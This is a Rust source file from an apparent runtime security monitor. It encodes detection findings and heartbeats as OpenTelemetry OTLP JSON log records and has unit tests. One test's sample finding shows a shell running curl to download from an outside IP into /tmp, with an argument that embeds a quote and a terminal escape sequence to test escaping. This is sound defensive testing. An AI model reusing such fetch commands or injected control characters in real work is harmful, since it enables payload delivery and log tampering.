//! As log records of OpenTelemetry, in the JSON encoding of OTLP.
//! <https://opentelemetry.io/docs/specs/otlp/#json-protobuf-encoding>

use ethogram_model::{
    Finding, Heartbeat, Priority, Report,
    render::{escape, rfc3339, value_json},
    vocabulary::{CONTEXT, Subject},
};
use serde_json::{Value as Json, json};

use super::{host_name, priority, rule_name};

/// A report as one log record.
pub(in crate::sink) fn encode(report: &Report) -> Vec<u8> {
    match report {
        Report::Finding(finding) => record(finding).to_string().into_bytes(),
    }
}

/// A heartbeat as one log record.
pub(in crate::sink) fn heartbeat(heartbeat: &Heartbeat) -> Vec<u8> {
    let priority = Priority::Informational;
    let counts = heartbeat.counts();
    let counts = counts.iter().map(|(name, n)| attribute(&format!("ethogram.agent.{name}"), (*n).into()));
    let since = attribute("ethogram.agent.since", rfc3339(heartbeat.since_ns).into());
    let attributes: Vec<Json> = [since].into_iter().chain(counts).collect();
    json!({
        "timeUnixNano": heartbeat.time_ns.to_string(),
        "observedTimeUnixNano": heartbeat.time_ns.to_string(),
        "severityNumber": severity_number(priority),
        "severityText": priority.name(),
        "eventName": "ethogram.heartbeat",
        "body": { "stringValue": heartbeat.message() },
        "attributes": attributes,
    })
    .to_string()
    .into_bytes()
}

/// A request with one record.
pub(in crate::sink) fn request(record: &[u8]) -> Vec<u8> {
    let resource = json!({ "attributes": [
        attribute("service.name", "ethogram".into()),
        attribute("service.version", env!("CARGO_PKG_VERSION").into()),
        attribute("host.name", host_name().into()),
    ]});
    let scope = json!({ "name": "ethogram", "version": env!("CARGO_PKG_VERSION") });
    let begin = format!(r#"{{"resourceLogs":[{{"resource":{resource},"scopeLogs":[{{"scope":{scope},"logRecords":["#);
    [begin.as_bytes(), record, b"]}]}]}"].concat()
}

/// Why a collector that took the request did not take the record, if so.
pub(in crate::sink) fn rejection(answer: &[u8]) -> Option<String> {
    let answer: Json = serde_json::from_slice(answer).ok()?;
    let partial = &answer["partialSuccess"];
    let rejected = &partial["rejectedLogRecords"];
    let rejected = rejected.as_u64().or_else(|| rejected.as_str()?.parse().ok()).unwrap_or(0);
    (rejected > 0).then(|| escape(partial["errorMessage"].as_str().unwrap_or_default()).into_owned())
}

fn record(finding: &Finding) -> Json {
    let priority = priority(finding);
    json!({
        "timeUnixNano": finding.first_seen_ns.to_string(),
        "observedTimeUnixNano": finding.last_seen_ns.to_string(),
        "severityNumber": severity_number(priority),
        "severityText": priority.name(),
        "eventName": "ethogram.finding",
        "body": { "stringValue": finding.reason },
        "attributes": attributes(finding),
    })
}

/// What OpenTelemetry's data model has for the severities of syslog.
fn severity_number(priority: Priority) -> u8 {
    match priority {
        Priority::Emergency => 21,
        Priority::Alert => 19,
        Priority::Critical => 18,
        Priority::Error => 17,
        Priority::Warning => 13,
        Priority::Notice => 10,
        Priority::Informational => 9,
        Priority::Debug => 5,
    }
}

fn attributes(finding: &Finding) -> Vec<Json> {
    let mut out = Vec::new();
    let mut set = |name: &str, value: Json| out.push(attribute(name, value));
    set("ethogram.finding.uid", finding.uid.as_str().into());
    set("ethogram.finding.title", finding.title.as_str().into());
    set("ethogram.finding.analytic", finding.analytic.as_str().into());
    set("ethogram.finding.severity", finding.severity.name().into());
    set("ethogram.finding.confidence", finding.confidence.into());
    set("ethogram.workload", finding.workload.as_str().into());
    set("ethogram.behaviour.operation", finding.operation.as_str().into());
    set("ethogram.behaviour.executable", finding.executable.as_str().into());
    set("ethogram.behaviour.object", finding.object.as_str().into());
    if finding.rule.is_some() {
        set("security_rule.name", rule_name(finding).into());
    }
    if !finding.techniques.is_empty() {
        set("ethogram.finding.techniques", json!(finding.techniques));
    }
    let subject = Subject::of_finding(finding);
    for field in CONTEXT.iter().filter(|f| f.shown.in_findings) {
        if let Some(value) = value_json(field.read(&subject)) {
            set(field.name, value);
        }
    }
    out
}

/// In protobuf's JSON, 64-bit integers are strings.
fn attribute(name: &str, value: Json) -> Json {
    fn any(value: Json) -> Json {
        match value {
            Json::Number(n) => json!({ "intValue": n.to_string() }),
            Json::Bool(b) => json!({ "boolValue": b }),
            Json::Array(list) => json!({ "arrayValue": { "values": list.into_iter().map(any).collect::<Vec<_>>() } }),
            text => json!({ "stringValue": text }),
        }
    }
    json!({ "key": name, "value": any(value) })
}

#[cfg(test)]
#[allow(clippy::unwrap_used)]
mod tests {
    use opentelemetry_proto::tonic::collector::logs::v1::ExportLogsServiceRequest;

    use super::super::tests::{beat, behaviour, rule_match};
    use super::*;

    #[test]
    fn a_heartbeat_is_a_record_that_a_collector_reads() {
        let request: ExportLogsServiceRequest = serde_json::from_slice(&request(&heartbeat(&beat()))).unwrap();
        let record = &request.resource_logs[0].scope_logs[0].log_records[0];
        assert_eq!((record.event_name.as_str(), record.severity_number), ("ethogram.heartbeat", 9));
        let names: Vec<_> = record.attributes.iter().map(|a| a.key.as_str()).collect();
        assert!(names.contains(&"ethogram.agent.since") && names.contains(&"ethogram.agent.events_lost"), "{names:?}");
    }

    #[test]
    fn a_finding_is_a_record_with_attributes_of_the_vocabulary() {
        insta::assert_snapshot!(serde_json::to_string_pretty(&record(&behaviour())).unwrap(), @r#"
        {
          "timeUnixNano": "1767225600123456789",
          "observedTimeUnixNano": "1767225600123456789",
          "severityNumber": 17,
          "severityText": "Error",
          "eventName": "ethogram.finding",
          "body": {
            "stringValue": "/bin/sh ran /usr/bin/curl, which this workload never did in 24 h of learning"
          },
          "attributes": [
            {
              "key": "ethogram.finding.uid",
              "value": {
                "stringValue": "6c62272e07bb014262b821756295c58d"
              }
            },
            {
              "key": "ethogram.finding.title",
              "value": {
                "stringValue": "web: /bin/sh ran /usr/bin/curl"
              }
            },
            {
              "key": "ethogram.finding.analytic",
              "value": {
                "stringValue": "behaviour.execute"
              }
            },
            {
              "key": "ethogram.finding.severity",
              "value": {
                "stringValue": "High"
              }
            },
            {
              "key": "ethogram.finding.confidence",
              "value": {
                "intValue": "90"
              }
            },
            {
              "key": "ethogram.workload",
              "value": {
                "stringValue": "shop/web"
              }
            },
            {
              "key": "ethogram.behaviour.operation",
              "value": {
                "stringValue": "execute"
              }
            },
            {
              "key": "ethogram.behaviour.executable",
              "value": {
                "stringValue": "/bin/sh"
              }
            },
            {
              "key": "ethogram.behaviour.object",
              "value": {
                "stringValue": "/usr/bin/curl\n"
              }
            },
            {
              "key": "ethogram.finding.techniques",
              "value": {
                "arrayValue": {
                  "values": [
                    {
                      "stringValue": "T1105"
                    }
                  ]
                }
              }
            },
            {
              "key": "process.pid",
              "value": {
                "intValue": "42"
              }
            },
            {
              "key": "process.parent_pid",
              "value": {
                "intValue": "41"
              }
            },
            {
              "key": "process.executable.name",
              "value": {
                "stringValue": "curl"
              }
            },
            {
              "key": "process.executable.path",
              "value": {
                "stringValue": "/usr/bin/curl"
              }
            },
            {
              "key": "process.command_args",
              "value": {
                "arrayValue": {
                  "values": [
                    {
                      "stringValue": "curl"
                    },
                    {
                      "stringValue": "-o"
                    },
                    {
                      "stringValue": "/tmp/a\"]\n\u001b[2J"
                    },
                    {
                      "stringValue": "http://198.51.100.7/"
                    }
                  ]
                }
              }
            },
            {
              "key": "process.real_user.id",
              "value": {
                "intValue": "33"
              }
            },
            {
              "key": "container.id",
              "value": {
                "stringValue": "0123456789abcdef0123456789abcdef"
              }
            },
            {
              "key": "container.name",
              "value": {
                "stringValue": "web"
              }
            },
            {
              "key": "container.image.name",
              "value": {
                "stringValue": "images.example:5000/shop/web:1.2"
              }
            },
            {
              "key": "container.image.id",
              "value": {
                "stringValue": "sha256:ab"
              }
            },
            {
              "key": "k8s.pod.name",
              "value": {
                "stringValue": "web-7d4b9"
              }
            },
            {
              "key": "k8s.namespace.name",
              "value": {
                "stringValue": "shop"
              }
            }
          ]
        }
        "#);
    }

    #[test]
    fn a_request_says_who_sends_it() {
        let request: Json = serde_json::from_slice(&request(&encode(&rule_match().into()))).unwrap();
        let logs = &request["resourceLogs"][0];
        let service = json!({ "key": "service.name", "value": { "stringValue": "ethogram" } });
        assert_eq!(logs["resource"]["attributes"][0], service);
        let record = &logs["scopeLogs"][0]["logRecords"][0];
        assert_eq!((&record["severityNumber"], &record["severityText"]), (&json!(18), &json!("Critical")));
        let rule = json!({ "key": "security_rule.name", "value": { "stringValue": "Read sensitive file" } });
        assert!(record["attributes"].as_array().unwrap().contains(&rule));
    }

    #[test]
    fn what_a_collector_refuses_in_part_is_refused() {
        let refused = br#"{"partialSuccess":{"rejectedLogRecords":"1","errorMessage":"too\nold"}}"#;
        assert_eq!(rejection(refused).as_deref(), Some("too\\nold"));
        assert_eq!(rejection(br#"{"partialSuccess":{"rejectedLogRecords":1}}"#).as_deref(), Some(""));
        for fine in [
            &b""[..],
            b"{}",
            b"rubbish",
            br#"{"partialSuccess":{}}"#,
            br#"{"partialSuccess":{"rejectedLogRecords":"0"}}"#,
        ] {
            assert_eq!(rejection(fine), None);
        }
    }

    /// All that is in `a` is in `b`, too.
    fn is_within(a: &Json, b: &Json) -> bool {
        match (a, b) {
            (Json::Object(a), Json::Object(b)) => {
                a.iter().all(|(name, a)| b.get(name).is_some_and(|b| is_within(a, b)))
            }
            (Json::Array(a), Json::Array(b)) => a.len() == b.len() && a.iter().zip(b).all(|(a, b)| is_within(a, b)),
            (a, b) => a == b,
        }
    }

    /// Decodes as OpenTelemetry's own types do, and whether nothing was lost by that.
    fn is_whole(request: &[u8]) -> bool {
        let written: Json = serde_json::from_slice(request).unwrap();
        let Ok(decoded) = serde_json::from_slice::<ExportLogsServiceRequest>(request) else { return false };
        is_within(&written, &serde_json::to_value(decoded).unwrap())
    }

    #[test]
    fn opentelemetrys_own_types_decode_it_and_lose_nothing() {
        for finding in [behaviour(), rule_match()] {
            let request = request(&encode(&finding.into()));
            let decoded: ExportLogsServiceRequest = serde_json::from_slice(&request).unwrap();
            let record = &decoded.resource_logs[0].scope_logs[0].log_records[0];
            assert_eq!(record.time_unix_nano, 1_767_225_600_123_456_789);
            assert_eq!(record.event_name, "ethogram.finding");
            assert!(is_whole(&request), "{}", String::from_utf8_lossy(&request));
        }
    }

    #[test]
    fn a_misspelt_name_would_be_lost() {
        let request = String::from_utf8(request(&encode(&behaviour().into()))).unwrap();
        for name in [
            "resourceLogs",
            "resource",
            "scopeLogs",
            "scope",
            "logRecords",
            "timeUnixNano",
            "observedTimeUnixNano",
            "severityNumber",
            "severityText",
            "eventName",
            "body",
            "attributes",
            "key",
            "stringValue",
            "intValue",
            "arrayValue",
        ] {
            let misspelt = request.replace(&format!("\"{name}\":"), &format!("\"{name}s\":"));
            assert_ne!(misspelt, request, "{name}");
            assert!(!is_whole(misspelt.as_bytes()), "{name}");
        }
    }
}
